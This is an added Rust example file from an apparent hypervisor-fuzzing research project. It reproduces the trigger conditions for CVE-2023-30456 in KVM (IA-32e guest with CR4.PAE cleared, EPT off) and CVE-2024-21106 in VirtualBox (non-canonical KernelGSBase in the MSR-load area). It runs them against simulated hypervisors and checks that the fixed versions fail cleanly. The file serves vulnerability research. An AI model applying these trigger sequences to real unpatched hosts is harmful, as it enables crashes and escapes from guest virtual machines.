@@ -1,0 +1,158 @@
+//! Reproduces the paper's two CVEs step by step, the way a security
+//! researcher would write the PoC (paper §5.5.1, §5.5.3):
+//!
+//! - **CVE-2023-30456** (KVM): nested VM entry with the IA-32e-mode
+//!   control set and guest `CR4.PAE = 0`, with EPT disabled by module
+//!   parameter — UBSAN flags the out-of-bounds page-walk write.
+//! - **CVE-2024-21106** (VirtualBox): a VM-entry MSR-load entry carrying
+//!   a non-canonical `MSR_KERNEL_GS_BASE` — the host takes a #GP.
+//!
+//! ```text
+//! cargo run --release --example cve_repro
+//! ```
+
+use nf_hv::{HvConfig, L0Hypervisor, L1Result, Vkvm, Vvbox};
+use nf_silicon::{golden_vmcs, CrIndex, GuestInstr};
+use nf_vmx::{MsrArea, MsrAreaEntry, VmcsField, VmxCapabilities};
+use nf_x86::{CpuFeature, CpuVendor, Cr4, Msr};
+
+fn boot_nested(hv: &mut dyn L0Hypervisor, caps: &VmxCapabilities) {
+    hv.l1_exec(GuestInstr::MovToCr(CrIndex::Cr4, Cr4::VMXE | Cr4::PAE));
+    assert_eq!(hv.l1_exec(GuestInstr::Vmxon(0x1000)), L1Result::Ok(0));
+    assert_eq!(hv.l1_exec(GuestInstr::Vmclear(0x2000)), L1Result::Ok(0));
+    assert_eq!(hv.l1_exec(GuestInstr::Vmptrld(0x2000)), L1Result::Ok(0));
+    let golden = golden_vmcs(caps);
+    for &f in VmcsField::ALL {
+        if f.writable() {
+            hv.l1_exec(GuestInstr::Vmwrite(f.encoding(), golden.read(f)));
+        }
+    }
+}
+
+fn cve_2023_30456() {
+    println!("=== CVE-2023-30456: KVM IA-32e / CR4.PAE consistency gap ===");
+    // Step 1: load kvm-intel with EPT disabled (the trigger precondition).
+    let mut cfg = HvConfig::default_for(CpuVendor::Intel);
+    cfg.features.remove(CpuFeature::Ept);
+    cfg.features.remove(CpuFeature::UnrestrictedGuest);
+    let mut kvm = Vkvm::new(cfg);
+    let caps = kvm.exposed_capabilities().clone();
+    println!("  [1] kvm-intel loaded with ept=0");
+
+    // Step 2: boot the L1 hypervisor and build a golden VMCS12.
+    boot_nested(&mut kvm, &caps);
+    println!("  [2] L1 initialized, golden VMCS12 written");
+
+    // Step 3: IA-32e mode guest with CR4.PAE cleared. The Intel SDM says
+    // PAE must be set; the CPU silently assumes it — KVM reads the bit
+    // literally and sizes its shadow-walk cache wrong.
+    let cr4 = {
+        match kvm.l1_exec(GuestInstr::Vmread(VmcsField::GuestCr4.encoding())) {
+            L1Result::Ok(v) => v,
+            other => panic!("vmread failed: {other:?}"),
+        }
+    };
+    kvm.l1_exec(GuestInstr::Vmwrite(
+        VmcsField::GuestCr4.encoding(),
+        cr4 & !Cr4::PAE,
+    ));
+    println!("  [3] GUEST_CR4.PAE cleared while IA-32e mode guest = 1");
+
+    // Step 4: vmlaunch — the hardware quirk lets the entry proceed and
+    // the shadow MMU walks out of bounds.
+    let result = kvm.l1_exec(GuestInstr::Vmlaunch);
+    println!("  [4] vmlaunch -> {result:?}");
+    let report = kvm
+        .health()
+        .reports
+        .iter()
+        .find(|r| r.bug_id == "CVE-2023-30456")
+        .expect("UBSAN must flag the out-of-bounds page walk");
+    println!("  [!] {}", report.message);
+
+    // The fixed kernel rejects the state cleanly.
+    let mut cfg = HvConfig::default_for(CpuVendor::Intel);
+    cfg.features.remove(CpuFeature::Ept);
+    cfg.features.remove(CpuFeature::UnrestrictedGuest);
+    let mut fixed = Vkvm::new(cfg);
+    fixed.bugs.cve_2023_30456_fixed = true;
+    let caps = fixed.exposed_capabilities().clone();
+    boot_nested(&mut fixed, &caps);
+    let cr4 = match fixed.l1_exec(GuestInstr::Vmread(VmcsField::GuestCr4.encoding())) {
+        L1Result::Ok(v) => v,
+        other => panic!("vmread failed: {other:?}"),
+    };
+    fixed.l1_exec(GuestInstr::Vmwrite(
+        VmcsField::GuestCr4.encoding(),
+        cr4 & !Cr4::PAE,
+    ));
+    let result = fixed.l1_exec(GuestInstr::Vmlaunch);
+    assert!(matches!(result, L1Result::L2EntryFailed { .. }));
+    assert!(!fixed.health().anomalous());
+    println!("  [5] with commit 112e660 applied: clean VM-entry failure\n");
+}
+
+fn cve_2024_21106() {
+    println!("=== CVE-2024-21106: VirtualBox unvalidated MSR-load value ===");
+    let mut vbox = Vvbox::new(HvConfig::default_for(CpuVendor::Intel));
+    let caps = VmxCapabilities::from_features(
+        nf_x86::FeatureSet::default_for(CpuVendor::Intel).sanitized(CpuVendor::Intel),
+    );
+    boot_nested(&mut vbox, &caps);
+    println!("  [1] L1 initialized under VirtualBox 7.0.12 (model)");
+
+    // Stage the poisoned MSR-load area: a non-canonical KernelGSBase.
+    vbox.l1_stage_msr_area(
+        0x6000,
+        MsrArea {
+            entries: vec![MsrAreaEntry {
+                index: Msr::KernelGsBase.index(),
+                value: 0x8000_0000_0000_0000,
+            }],
+        },
+    );
+    vbox.l1_exec(GuestInstr::Vmwrite(
+        VmcsField::VmEntryMsrLoadAddr.encoding(),
+        0x6000,
+    ));
+    vbox.l1_exec(GuestInstr::Vmwrite(
+        VmcsField::VmEntryMsrLoadCount.encoding(),
+        1,
+    ));
+    println!("  [2] vmentry_msr_load staged: KernelGSBase = 0x8000000000000000");
+
+    let result = vbox.l1_exec(GuestInstr::Vmlaunch);
+    println!("  [3] vmlaunch -> {result:?}");
+    let report = vbox.health().reports.first().expect("host crash report");
+    println!("  [!] {} ({})", report.message, report.bug_id);
+
+    // The fixed build validates like KVM and fails the entry cleanly.
+    let mut fixed = Vvbox::new(HvConfig::default_for(CpuVendor::Intel));
+    fixed.bugs.msr_load_fixed = true;
+    boot_nested(&mut fixed, &caps);
+    fixed.l1_stage_msr_area(
+        0x6000,
+        MsrArea {
+            entries: vec![MsrAreaEntry {
+                index: Msr::KernelGsBase.index(),
+                value: 0x8000_0000_0000_0000,
+            }],
+        },
+    );
+    fixed.l1_exec(GuestInstr::Vmwrite(
+        VmcsField::VmEntryMsrLoadAddr.encoding(),
+        0x6000,
+    ));
+    fixed.l1_exec(GuestInstr::Vmwrite(
+        VmcsField::VmEntryMsrLoadCount.encoding(),
+        1,
+    ));
+    let result = fixed.l1_exec(GuestInstr::Vmlaunch);
+    assert!(matches!(result, L1Result::L2EntryFailed { .. }));
+    println!("  [4] with the fix: clean MSR-load VM-entry failure (exit 34)");
+}
+
+fn main() {
+    cve_2023_30456();
+    cve_2024_21106();
+}
